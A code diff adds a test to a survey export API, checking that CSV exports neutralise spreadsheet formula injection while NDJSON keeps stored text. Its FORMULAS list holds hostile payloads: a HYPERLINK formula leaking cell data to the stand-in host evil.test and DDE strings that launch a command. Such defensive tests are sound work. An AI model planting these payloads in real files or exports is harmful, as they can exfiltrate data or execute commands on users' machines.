@@ -34,6 +34,40 @@ async def test_csv_round_trips_with_rfc4180_quoting(app_client, tenant, survey_i
     assert json.loads(rows[0]["segments"]) == {"team": "a, b"}
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.test/?leak="&A1, "click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(
+    app_client, tenant, survey_id
+) -> None:
+    items = answers_on(survey_id, "2026-02-03", [0] * len(FORMULAS))
+    for item, formula in zip(items, FORMULAS, strict=True):
+        item |= {"comment": formula, "customer_id": formula[:255], "external_id": formula}
+    items[0]["comment"] = "fine - and -5 is text"  # a dash inside text stays as it is
+    await post_batch(app_client, tenant, items)
+    r = await app_client.get("/v1/responses/export", headers=tenant.headers)
+    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
+    assert sorted(x["customer_id"] for x in rows) == sorted("'" + f for f in FORMULAS)
+    assert sorted(x["external_id"] for x in rows) == sorted("'" + f for f in FORMULAS)
+    assert sorted(x["comment"] for x in rows) == sorted(
+        ["fine - and -5 is text"] + ["'" + f for f in FORMULAS[1:]]
+    )
+    assert {x["score"] for x in rows} == {"0"}
+    ndjson = await app_client.get(
+        "/v1/responses/export", params={"format": "ndjson"}, headers=tenant.headers
+    )
+    assert sorted(json.loads(x)["external_id"] for x in ndjson.text.splitlines()) == sorted(
+        FORMULAS
+    )  # only CSV is read by spreadsheets: NDJSON keeps the text as stored
+
+
 async def test_ndjson_matches_the_listing_and_filters_apply(app_client, tenant, survey_id) -> None:
     await post_batch(
         app_client,
